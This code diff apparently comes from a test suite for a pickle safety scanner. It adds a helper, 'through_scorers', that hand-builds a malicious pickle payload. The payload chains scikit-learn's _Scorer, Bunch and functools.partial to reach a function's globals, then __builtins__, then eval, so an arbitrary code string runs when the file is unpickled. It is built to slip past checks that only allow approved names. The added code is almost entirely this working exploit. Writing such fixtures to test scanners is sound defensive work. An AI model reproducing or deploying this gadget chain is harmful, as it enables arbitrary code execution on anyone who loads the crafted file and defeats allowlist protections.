@@ -158,3 +158,44 @@ def short_tensor() -> bytes:
 
 def pickled(value: Any, protocol: int = 4) -> bytes:
     return pickle.dumps(value, protocol)
+
+
+def through_scorers(code: str) -> bytes:
+    """Run ``code`` by allowed names alone: a scorer calls a method by a name that the file gives, and so finds ``eval`` among a function's globals."""
+
+    def name(module: str, each: str) -> bytes:
+        return f"c{module}\n{each}\n".encode()
+
+    def text(value: str) -> bytes:
+        return b"X" + struct.pack("<I", len(value.encode())) + value.encode()
+
+    def call(function: bytes, *arguments: bytes) -> bytes:
+        return function + b"(" + b"".join(arguments) + b"tR"
+
+    def items(**values: bytes) -> bytes:
+        return b"}" + b"".join(text(key) + value + b"s" for key, value in values.items())
+
+    def scorer(score: bytes, method: str) -> bytes:
+        return call(name("sklearn.metrics._scorer", "_Scorer"), score, b"K\x01", b"}", text(method))
+
+    def kept(value: bytes, place: int) -> bytes:
+        return value + b"q" + bytes([place]) + b"0"
+
+    def partial(function: bytes, keywords: bytes) -> bytes:
+        return call(name("functools", "partial"), function) + b"(" + function + b")" + keywords + b"Ntb"
+
+    bunch = name("sklearn.utils._bunch", "Bunch")
+    tags = call(name("functools", "partial"), bunch) + b"(" + bunch + b")" + items(estimator_type=b"N") + b"Ntb"
+    tagged = call(bunch) + text("__sklearn_tags__") + tags + b"s"
+    nothing = call(name("functools", "partial"), call(name("functools", "partial"), name("sklearn.gaussian_process.kernels", "ConstantKernel")))
+    function = name("sklearn.utils.validation", "check_array") + items(__sklearn_tags__=tags) + b"b"
+    update = partial(b"h\x03", items(y_true=name("builtins", "object")))
+    steps = [
+        kept(tagged, 1),
+        kept(tagged, 2),
+        kept(scorer(nothing, "update"), 3),
+        call(scorer(update, "__getattribute__"), function, text("__globals__"), b"h\x01") + b"0",
+        call(scorer(update, "__getitem__"), b"h\x01", text("__builtins__"), b"h\x02") + b"0",
+        call(scorer(nothing, "eval"), b"h\x02", text(code), name("builtins", "object")) + b"0",
+    ]
+    return b"\x80\x04" + b"".join(steps) + call(name("sklearn.linear_model._base", "LinearRegression")) + b"."
